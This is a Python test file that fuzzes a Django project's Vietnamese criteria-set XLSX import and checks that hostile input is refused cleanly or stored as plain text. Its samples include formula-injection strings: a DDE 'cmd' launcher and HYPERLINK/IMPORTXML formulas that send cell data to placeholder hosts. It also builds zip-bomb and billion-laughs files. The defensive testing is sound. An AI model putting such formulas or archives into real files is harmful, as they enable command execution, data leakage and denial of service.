"""Hostile cells in the criteria-set XLSX import (the only spreadsheet import of the project:
``grep -rn load_workbook ntm`` finds ntm/criteria/xlsx_import.py alone; there is no CSV import).

Hypothesis builds workbooks in the import layout (ntm/criteria/tests/workbooks.py) and puts
hostile values into random cells: formulas, decomposed (NFD) Vietnamese, control characters,
40-digit, negative, NaN and infinite numbers, dates where numbers belong, numbers and booleans
where text belongs, empty required cells, 5,000-character strings, duplicate codes, and raw XML
that no spreadsheet program writes (a "nan" number, a control character).

Whatever the file, the import returns: never an exception. Either it is refused with Vietnamese
messages naming where (sheet, row, column — or "(tệp)" for an unreadable file) and NOTHING in
the database changed, or it is accepted and every stored text is NFC without control characters
and a formula is stored as its text ("=1+1"), never as a value computed from it.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import unicodedata
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from ntm.core.tests import hostile_files as hf
from ntm.core.text import normalize
from ntm.criteria.models import (
    CriteriaSet,
    Criterion,
    CriterionGroup,
    Indicator,
    LegalBasis,
    Target,
)
from ntm.criteria.tests import workbooks
from ntm.criteria.xlsx_import import ImportResult, import_set_xlsx
from ntm.criteria.xlsx_layout import REQUIRED_SHEETS, SHEET_SET, unescape_cell

pytestmark = pytest.mark.django_db

MODELS = [CriteriaSet, CriterionGroup, LegalBasis, Criterion, Indicator, Target]
FILE = "(tệp)"
VIETNAMESE = re.compile(r"[àáảãạăằắẳẵặâầấẩẫậđèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵ]")
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
NAN_MARK, CTRL_MARK = "__SO_NAN__", "__KY_TU_DIEU_KHIEN__"

# Free-text fields: stored as read (NFC, control characters stripped).
TEXT_FIELDS = {
    SHEET_SET: [],  # the set's values are one column: handled through SET_TEXT below
    "Căn cứ pháp lý": ["issuer", "title", "part", "note"],
    "Tiêu chí": ["name", "sector", "note"],
    "Chỉ tiêu": ["name", "unit_label", "required_evidence", "note"],
    "Ngưỡng": ["legal_text", "source", "note"],
}
SET_TEXT = {"name", "short_name", "status_note", "completeness_note", "rules_note", "source_file"}
# Everything else: codes, numbers, flags, dates, choices (and the set sheet's labels).
OTHER_FIELDS = {
    SHEET_SET: ["label", "value"],
    "Căn cứ pháp lý": ["document", "date", "verified", "order"],
    "Tiêu chí": ["number", "name_verified", "group_code", "group_name", "sector_verified"],
    "Chỉ tiêu": [
        "code",
        "criterion",
        "name_verified",
        "kind",
        "comparison",
        "choices",
        "is_illustrative",
        "order",
    ],
    "Ngưỡng": ["indicator", "key", "year", "value", "verified", "is_illustrative", "version"],
}
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
    "@SUM(1,2)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "=A1*100",
    '=IMPORTXML(CONCAT("http://x.invalid/?v=",B2),"//a")',
]
NFD_WORDS = [unicodedata.normalize("NFD", w) for w in ("Lợi", "Ấp An Lợi", "Bưng Chàm", "Đạt")]

hostile_text = st.text(
    alphabet=st.sampled_from(
        [*"aăâđêôơưLợiẤỹ =+-@;'\t\n\x7f\x85\u200b\u00a0", "\u0323", "\u031b", "\u0301"]
    ),
    max_size=40,
)
hostile_values = st.one_of(
    st.sampled_from(FORMULAS),
    st.sampled_from(NFD_WORDS),
    hostile_text,
    st.sampled_from([10**40, -(10**40), -1, -0.5, 1e308, 2**31, 0, 3.14159265358979]),
    st.integers(min_value=-(10**45), max_value=10**45),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(["NaN", "nan", "inf", "-Infinity", "1e999", "80,5", "1.000.000", "８０"]),
    st.datetimes(min_value=dt.datetime(1900, 1, 1), max_value=dt.datetime(2100, 12, 31)),
    st.dates(min_value=dt.date(1900, 1, 1), max_value=dt.date(2100, 12, 31)),
    st.booleans(),
    st.sampled_from([None, "", "   "]),
    st.sampled_from(["Đ" * 5000, "a" * 5000, "Lợi " * 1250]),
    st.sampled_from([NAN_MARK, f"a{CTRL_MARK}b"]),
)


@st.composite
def mutations(draw: st.DrawFn) -> list[tuple[str, int, str, Any]]:
    """1-3 cells (sheet, record index, field, value), sometimes a duplicated code."""
    result = []
    for _ in range(draw(st.integers(1, 3))):
        sheet = draw(st.sampled_from(REQUIRED_SHEETS))
        fields = TEXT_FIELDS[sheet] + OTHER_FIELDS[sheet]
        count = len(workbooks.SET_VALUES) + 8 if sheet == SHEET_SET else 2
        result.append(
            (
                sheet,
                draw(st.integers(0, count - 1)),
                draw(st.sampled_from(fields)),
                draw(hostile_values),
            )
        )
    duplicate = draw(
        st.sampled_from(
            [
                None,
                None,
                None,
                None,
                ("Căn cứ pháp lý", "document"),
                ("Tiêu chí", "number"),
                ("Chỉ tiêu", "code"),
                ("Ngưỡng", "indicator"),
            ]
        )
    )
    if duplicate:
        sheet, field = duplicate
        result.append((sheet, 1, field, ("copy", 0)))
    return result


def _apply(rows: dict[str, list[dict[str, Any]]], changes: list[tuple[str, int, str, Any]]) -> None:
    for sheet, index, field, value in changes:
        records = rows[sheet]
        index = min(index, len(records) - 1)
        if isinstance(value, tuple) and value and value[0] == "copy":
            records[index][field] = records[value[1]].get(field)
            if sheet == "Ngưỡng":  # same indicator, key and year: a duplicate target
                for name in ("key", "year"):
                    records[index][name] = records[value[1]].get(name)
        else:
            records[index][field] = value


def _raw_xml(data: bytes) -> bytes:
    """Put what no spreadsheet program writes into the sheet XML: a NaN number, a control
    character inside a string."""

    def patch(body: bytes) -> bytes:
        body = re.sub(
            rb't="inlineStr"><is><t>' + NAN_MARK.encode() + rb"</t></is>",
            b't="n"><v>nan</v>',
            body,
        )
        return body.replace(CTRL_MARK.encode(), b"\x07")

    names = [f"xl/worksheets/sheet{i}.xml" for i in range(1, len(REQUIRED_SHEETS) + 1)]
    return hf.rezip(data, change=dict.fromkeys(names, patch))


def counts() -> dict[str, int]:
    result = {}
    for model in MODELS:
        result[model.__name__] = model._default_manager.count()
        history = getattr(model, "history", None)
        if history is not None:
            result[f"{model.__name__}.history"] = history.model.objects.count()
    return result


def _expected_text(value: Any) -> str | None:
    """What a free-text cell holding ``value`` must be stored as (None: cannot say)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, dt.datetime):
        return value.date().isoformat()
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, int):
        # A spreadsheet number is a double: beyond 2**53 the file holds a neighbour.
        return str(value) if abs(value) < 2**53 else None
    if isinstance(value, float):
        return None  # Excel keeps 15 significant digits: the shown text may differ
    text = str(unescape_cell(value))
    if NAN_MARK in text or CTRL_MARK in text:
        return None
    return normalize(text.replace("\r\n", "\n").replace("\r", "\n").strip())


def _stored_texts(code: str) -> list[str]:
    cs = CriteriaSet.objects.get(code=code)
    texts: list[str] = []
    for model, lookup in (
        (CriteriaSet, {"pk": cs.pk}),
        (LegalBasis, {"criteria_set": cs}),
        (CriterionGroup, {"criteria_set": cs}),
        (Criterion, {"criteria_set": cs}),
        (Indicator, {"criterion__criteria_set": cs}),
        (Target, {"indicator__criterion__criteria_set": cs}),
    ):
        names = [
            f.attname
            for f in model._meta.concrete_fields
            if f.get_internal_type() in {"CharField", "TextField"}
        ]
        for row in model._default_manager.filter(**lookup).values_list(*names):
            texts.extend(v for v in row if isinstance(v, str))
    return texts


def _check(result: ImportResult, before: dict[str, int], changes: list[Any], code: str) -> str:
    if not result.ok:
        assert counts() == before, "a refused file changed the database"
        for error in result.errors:
            text = str(error)
            assert error.sheet in [*REQUIRED_SHEETS, FILE], text
            assert text.startswith(f"Sheet '{error.sheet}'"), text
            assert VIETNAMESE.search(error.message), text
            if error.column:
                assert re.fullmatch(r"[A-Z]{1,3}", error.column) and error.row, text
        assert any(e.sheet == FILE or e.row for e in result.errors), result.errors
        return "refused"
    assert result.criteria_set is not None
    texts = _stored_texts(result.criteria_set.code)
    for text in texts:
        assert text == normalize(text), ("stored text not NFC/clean", text[:80])
        assert not CONTROL.search(text), text[:80]
    final: dict[tuple[str, int, str], Any] = {}
    for sheet, index, field, value in changes:
        if not (isinstance(value, tuple)):
            final[(sheet, min(index, 1 if sheet != SHEET_SET else 99), field)] = value
    for (sheet, _index, field), value in final.items():
        if field in TEXT_FIELDS[sheet]:
            expected = _expected_text(value)
            if expected:
                assert expected in texts, (sheet, field, expected[:80])
    return "accepted"


@pytest.fixture
def importer(world: Any) -> Any:
    """The world plus the clean workbook's set, imported once (so updates are exercised too)."""
    data, _ = workbooks.build(workbooks.base_rows())
    first = import_set_xlsx(io.BytesIO(data), user=world.admin, filename="sach.xlsx")
    assert first.ok, [str(e) for e in first.errors]
    return world


@settings(
    max_examples=30,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(changes=mutations(), existing=st.booleans())
def test_hostile_cells_are_refused_cleanly_or_stored_as_clean_text(
    importer: Any, changes: list[Any], existing: bool
) -> None:
    code = workbooks.SET_VALUES["code"] if existing else "BO-MOI-TU-TEP"
    rows = workbooks.base_rows(code)
    _apply(rows, changes)
    data, _ = workbooks.build(rows)
    data = _raw_xml(data)
    with transaction.atomic():
        before = counts()
        result = import_set_xlsx(io.BytesIO(data), user=importer.admin, filename="doc-hai.xlsx")
        event(_check(result, before, changes, code))  # --hypothesis-show-statistics
        transaction.set_rollback(True)  # every example starts from the same database


text_values = st.one_of(
    st.sampled_from(FORMULAS),
    st.sampled_from(NFD_WORDS),
    hostile_text,
    st.integers(min_value=-(10**45), max_value=10**45),
    st.booleans(),
    st.dates(min_value=dt.date(1900, 1, 1), max_value=dt.date(2100, 12, 31)),
    st.sampled_from(["Đ" * 5000, "Lợi " * 1250]),
)


@st.composite
def text_mutations(draw: st.DrawFn) -> list[tuple[str, int, str, Any]]:
    """1-3 free-text cells only: most such files are accepted, so what is stored is checked."""
    result = []
    for _ in range(draw(st.integers(1, 3))):
        sheet = draw(st.sampled_from([s for s in REQUIRED_SHEETS if TEXT_FIELDS[s]]))
        field = draw(st.sampled_from(TEXT_FIELDS[sheet]))
        result.append((sheet, draw(st.integers(0, 1)), field, draw(text_values)))
    return result


@settings(
    max_examples=20,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(changes=text_mutations(), existing=st.booleans())
def test_hostile_free_text_is_stored_exactly_as_clean_text(
    importer: Any, changes: list[Any], existing: bool
) -> None:
    code = workbooks.SET_VALUES["code"] if existing else "BO-MOI-TU-TEP"
    rows = workbooks.base_rows(code)
    _apply(rows, changes)
    data, _ = workbooks.build(rows)
    with transaction.atomic():
        before = counts()
        result = import_set_xlsx(io.BytesIO(data), user=importer.admin, filename="chu.xlsx")
        event(_check(result, before, changes, code))
        transaction.set_rollback(True)


def _import(rows: dict[str, list[dict[str, Any]]], user: Any, **kw: Any) -> ImportResult:
    data, _ = workbooks.build(rows, **kw)
    return import_set_xlsx(io.BytesIO(_raw_xml(data)), user=user, filename="doc-hai.xlsx")


def test_formulas_typed_in_text_cells_are_stored_as_their_text(importer: Any) -> None:
    rows = workbooks.base_rows("BO-CONG-THUC")
    rows["Tiêu chí"][0]["note"] = FORMULAS[0]
    rows["Chỉ tiêu"][1]["name"] = FORMULAS[1]
    rows["Ngưỡng"][1]["source"] = FORMULAS[5]
    rows["Căn cứ pháp lý"][0]["title"] = FORMULAS[6]
    rows[SHEET_SET][1]["value"] = '=CONCAT("Bộ ","độc hại")'  # the set's name
    result = _import(rows, importer.admin)
    assert result.ok, [str(e) for e in result.errors]
    cs = CriteriaSet.objects.get(code="BO-CONG-THUC")
    assert cs.name == '=CONCAT("Bộ ","độc hại")'
    assert Criterion.objects.get(criteria_set=cs, number=1).note == "=1+1"
    indicator = Indicator.objects.get(criterion__criteria_set=cs, code="2.1")
    assert indicator.name == FORMULAS[1]
    assert Target.objects.get(indicator=indicator).source == "=A1*100"
    assert LegalBasis.objects.get(criteria_set=cs, document="318/QĐ-TTg").title == FORMULAS[6]


def test_a_formula_where_a_number_belongs_is_refused_not_computed(importer: Any) -> None:
    rows = workbooks.base_rows()
    rows["Ngưỡng"][1]["value"] = "=40+40"
    before = counts()
    result = _import(rows, importer.admin)
    assert [str(e) for e in result.errors] == [
        "Sheet 'Ngưỡng', dòng 3, cột E: '=40+40' không phải là số."
    ]
    assert counts() == before


def test_decomposed_text_and_control_characters_are_stored_clean(importer: Any) -> None:
    rows = workbooks.base_rows("BO-NFD")
    rows["Tiêu chí"][0]["name"] = unicodedata.normalize("NFD", "Ấp An Lợi\x7f")
    rows["Chỉ tiêu"][0]["note"] = "Bư\x7fng Chàm\x85"
    rows["Ngưỡng"][0]["legal_text"] = unicodedata.normalize("NFD", "Đạt") + "\t(xã)\n"
    result = _import(rows, importer.admin)
    assert result.ok, [str(e) for e in result.errors]
    cs = CriteriaSet.objects.get(code="BO-NFD")
    assert Criterion.objects.get(criteria_set=cs, number=1).name == "Ấp An Lợi"
    assert Indicator.objects.get(criterion__criteria_set=cs, code="1.1").note == "Bưng Chàm"
    target = Target.objects.get(indicator__criterion__criteria_set=cs, indicator__code="1.1")
    assert target.legal_text == "Đạt\t(xã)"


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("value", 10**40, "Sheet 'Ngưỡng', dòng 3, cột E: '1e+40' quá lớn."),
        ("value", "NaN", "Sheet 'Ngưỡng', dòng 3, cột E: 'NaN' không phải là số."),
        ("value", dt.datetime(2024, 10, 15), "Sheet 'Ngưỡng', dòng 3, cột E: '2024-10-15 00:00:00' không phải là số."),
        ("year", -2024, "Sheet 'Ngưỡng', dòng 3, cột C: '-2024' không phải là năm hợp lệ (từ 1900 đến 2100)."),
        ("year", True, "Sheet 'Ngưỡng', dòng 3, cột C: 'True' không phải là năm hợp lệ (từ 1900 đến 2100)."),
        ("indicator", None, "Sheet 'Ngưỡng', dòng 3, cột A: thiếu mã chỉ tiêu."),
        ("source", NAN_MARK, "Sheet '(tệp)': không đọc được tệp Excel .xlsx"),
        ("source", f"a{CTRL_MARK}b", "Sheet '(tệp)': không đọc được tệp Excel .xlsx"),
    ],
)  # fmt: skip
def test_hostile_numbers_and_raw_xml_are_refused_where_they_are(
    importer: Any, field: str, value: Any, message: str
) -> None:
    rows = workbooks.base_rows()
    rows["Ngưỡng"][1][field] = value
    before = counts()
    result = _import(rows, importer.admin)
    assert not result.ok and str(result.errors[0]).startswith(message), [
        str(e) for e in result.errors
    ]
    assert counts() == before


def test_long_strings_and_duplicates_are_refused_with_where(importer: Any) -> None:
    rows = workbooks.base_rows()
    rows["Tiêu chí"][1]["name"] = "Đ" * 5000
    rows["Chỉ tiêu"][1]["code"] = "1.1"
    before = counts()
    result = _import(rows, importer.admin)
    errors = [str(e) for e in result.errors]
    assert "Sheet 'Tiêu chí', dòng 3, cột B: dài 5000 ký tự, tối đa 255." in errors
    assert "Sheet 'Chỉ tiêu', dòng 3, cột A: chỉ tiêu '1.1' đã có ở dòng 2 (trùng)." in errors
    assert counts() == before


# --- Hostile files through the real upload screen -------------------------------------------

FILES = {
    "sheet inflating past 200 MB": (
        lambda d: hf.inflating(d, "xl/worksheets/sheet1.xml"),
        "giải nén lớn bất thường",
    ),
    "thousands of members": (hf.many_members, "quá nhiều thành phần"),
    "huge declared size": (
        lambda d: hf.declaring_huge(d, "xl/worksheets/sheet5.xml"),
        "giải nén lớn bất thường",
    ),
    "lying small declared size": (
        lambda d: hf.declaring_small(d, "xl/worksheets/sheet5.xml"),
        "không đọc được tệp Excel",
    ),
    "damaged deflate stream": (
        lambda d: hf.corrupt_member(d, "xl/worksheets/sheet5.xml"),
        "không đọc được tệp Excel",
    ),
    "broken sheet XML": (
        lambda d: hf.rezip(d, change={"xl/worksheets/sheet2.xml": lambda b: b[: len(b) // 2]}),
        "không đọc được tệp Excel",
    ),
    "billion laughs": (
        lambda d: hf.rezip(
            d,
            change={
                "xl/worksheets/sheet1.xml": lambda b: (
                    hf.BILLION_LAUGHS + b.replace(b"Tr&#432;&#7901;ng", b"&lol9;", 1)
                )
            },
        ),
        "không đọc được tệp Excel",
    ),
    "truncated": (hf.truncated, "không đọc được tệp Excel"),
    "zip password": (hf.encrypted_flag, "mật khẩu"),
    "office password (OLE2)": (lambda d: hf.OLE2_HEADER, "mật khẩu"),
    "not a zip at all": (
        lambda d: b"<html><body>bang tinh</body></html>",
        "không phải là tệp Excel",
    ),
}


@pytest.mark.parametrize("case", sorted(FILES))
def test_hostile_files_on_the_import_screen_answer_200_in_vietnamese(
    case: str, importer: Any
) -> None:
    make, message = FILES[case]
    clean, _ = workbooks.build(workbooks.base_rows())
    data = make(clean)
    assert len(data) < 2 * 1024 * 1024
    client = Client()
    client.force_login(importer.admin)
    before = counts()
    response = client.post(
        reverse("criteria:set_import"),
        {"file": SimpleUploadedFile("bo-tieu-chi.xlsx", data, content_type="application/zip")},
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert message in html, re.sub(r"\s+", " ", html)[-3000:]
    assert "chưa thay đổi gì" in html or "errorlist" in html
    assert counts() == before


def test_a_refused_file_with_cell_errors_lists_them_on_the_screen(importer: Any) -> None:
    rows = workbooks.base_rows()
    rows["Ngưỡng"][1]["value"] = "=40+40"
    rows["Tiêu chí"][0]["number"] = -1
    data, _ = workbooks.build(rows)
    client = Client()
    client.force_login(importer.admin)
    before = counts()
    response = client.post(
        reverse("criteria:set_import"), {"file": SimpleUploadedFile("bo.xlsx", data)}
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "Tệp có 2 lỗi nên chưa thay đổi gì." in html
    assert "Sheet &#x27;Ngưỡng&#x27;, dòng 3, cột E: &#x27;=40+40&#x27; không phải là số." in html
    assert "Sheet &#x27;Tiêu chí&#x27;, dòng 2, cột A: &#x27;-1&#x27;" in html
    assert counts() == before
